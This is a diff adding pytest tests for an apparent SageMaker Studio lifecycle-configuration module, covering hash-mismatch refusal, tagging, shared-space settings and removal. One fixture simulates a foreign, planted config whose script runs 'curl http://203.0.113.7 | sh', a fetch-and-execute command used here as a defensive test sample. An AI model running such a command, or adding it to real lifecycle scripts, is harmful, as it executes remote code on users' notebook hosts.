@@ -261,3 +261,98 @@ def test_the_documented_iam_actions_are_the_calls_made(endpoint, direct, profile
     documented = set(re.findall(r"C\(sagemaker:(\w+)\)", text))
     only = {"UpdateDomain"} if profiles else {"UpdateUserProfile"}
     assert {call.operation for call in endpoint.calls()} == documented - only
+
+
+def foreign(endpoint, name, content="#!/bin/sh\ncurl http://203.0.113.7 | sh\n"):
+    """A configuration of somebody else with a name that anyone can compute from the script."""
+    return endpoint.lifecycle_config(name, base64.b64encode(content.encode()).decode())
+
+
+@pytest.mark.parametrize("check", [True, False], ids=["check", "apply"])
+@pytest.mark.parametrize("attached", [True, False], ids=["attached", "not-attached"])
+def test_another_content_under_the_same_name_is_refused(endpoint, direct, attached, check):
+    arn = foreign(endpoint, name_of(ONE))
+    settings = {"ExecutionRole": "arn:aws:iam::123456789012:role/studio"}
+    if attached:
+        settings["JupyterLabAppSettings"] = {"BuiltInLifecycleConfigArn": arn}
+    domain_id = endpoint.domain("research", DefaultUserSettings=settings)
+    desired = {"name": "docker", "domains": ["research"], "app_types": ["JupyterLab"]}
+    message = direct.fails(MODULE, check=check, content=ONE, **desired)
+    assert f"The content of the lifecycle configuration {name_of(ONE)} does not match the hash in its name" in message
+    assert "state=absent" in message
+    assert endpoint.mutating_calls() == []
+
+    # The remediation in the message works.
+    removed = direct.ok(MODULE, state="absent", **desired)
+    assert removed["removed"] == [name_of(ONE)]
+    direct.ok(MODULE, content=ONE, **desired)
+    assert block(endpoint, domain_id)["BuiltInLifecycleConfigArn"] == arn
+    config = endpoint.boto3().describe_studio_lifecycle_config(StudioLifecycleConfigName=name_of(ONE))
+    assert base64.b64decode(config["StudioLifecycleConfigContent"]).decode() == ONE
+
+
+def test_an_older_attached_one_with_another_content_is_replaced_with_a_warning(endpoint, direct):
+    arn = foreign(endpoint, name_of(ONE))
+    settings = {
+        "ExecutionRole": "arn:aws:iam::123456789012:role/studio",
+        "JupyterLabAppSettings": {"BuiltInLifecycleConfigArn": arn},
+    }
+    endpoint.domain("research", DefaultUserSettings=settings)
+    desired = {"name": "docker", "content": TWO, "domains": ["research"], "app_types": ["JupyterLab"]}
+    for check in (True, False):
+        run = direct.ok(MODULE, check=check, **desired)
+        assert f"attached lifecycle configuration {name_of(ONE)} does not match the hash in its name" in run.warnings
+    assert not direct.ok(MODULE, **desired).warnings
+
+
+def test_the_tags_name_the_module_that_created_it(endpoint, direct):
+    direct.ok(MODULE, name="docker", content=ONE, domains=[endpoint.domain()], app_types=["JupyterLab"])
+    tags = endpoint.boto3().list_tags(ResourceArn=arn_of(name_of(ONE)))["Tags"]
+    assert tags == [{"Key": "studio_local_mode:created_by", "Value": f"mlops.studio_local_mode.{MODULE}"}]
+
+
+@pytest.mark.parametrize("content", ["echo no shebang\n", "#!/bin/sh\r\necho crlf\r\n"])
+def test_a_script_that_cannot_start_is_refused(endpoint, direct, content):
+    message = direct.fails(MODULE, name="docker", content=content, domains=[endpoint.domain()])
+    assert "no app would start with it" in message
+    assert endpoint.calls() == []
+
+
+@pytest.mark.parametrize("semantics", ["merge", "replace"])
+def test_shared_spaces_get_it_for_jupyterlab_and_keep_their_other_settings(endpoint, direct, semantics):
+    endpoint.controls(update_semantics=semantics)
+    shared = {
+        "ExecutionRole": "arn:aws:iam::123456789012:role/shared",
+        "SecurityGroups": ["sg-0123456789abcdef0"],
+        "JupyterLabAppSettings": {"CustomImages": [CUSTOM_IMAGE]},
+    }
+    domain_id = endpoint.domain("research", DefaultSpaceSettings=shared)
+    endpoint.app(domain_id, space="team", shared=True)
+    desired = {"name": "docker", "domains": ["research"]}
+    predicted = direct.ok(MODULE, check=True, content=ONE, **desired)
+    done = direct.ok(MODULE, content=ONE, **desired)
+    assert done.differences == predicted.differences
+    [attachment] = done["attachments"]
+    assert attachment["shared_spaces"]["JupyterLab"]["built_in"] == arn_of(name_of(ONE))
+    assert list(attachment["shared_spaces"]) == ["JupyterLab"]
+
+    def settings():
+        return endpoint.boto3().describe_domain(DomainId=domain_id)["DefaultSpaceSettings"]
+
+    lab = {**shared["JupyterLabAppSettings"], "BuiltInLifecycleConfigArn": arn_of(name_of(ONE))}
+    assert settings() == {**shared, "JupyterLabAppSettings": lab}
+    assert not direct.ok(MODULE, content=ONE, **desired)["changed"]
+    direct.ok("sagemaker_studio_app", domains=["research"])
+    app = {"DomainId": domain_id, "SpaceName": "team", "AppType": "JupyterLab", "AppName": "default"}
+    assert endpoint.boto3().describe_app(**app)["BuiltInLifecycleConfigArn"] == arn_of(name_of(ONE))
+    endpoint.boto3().delete_app(**app)
+    direct.ok(MODULE, state="absent", **desired)
+    assert settings() == shared
+    assert names(endpoint) == set()
+
+
+def test_a_domain_without_shared_spaces_gets_no_settings_for_them(endpoint, direct):
+    domain_id = endpoint.domain()
+    run = direct.ok(MODULE, name="docker", content=ONE, domains=[domain_id])
+    assert run["attachments"][0]["shared_spaces"] == {}
+    assert not endpoint.boto3().describe_domain(DomainId=domain_id).get("DefaultSpaceSettings")
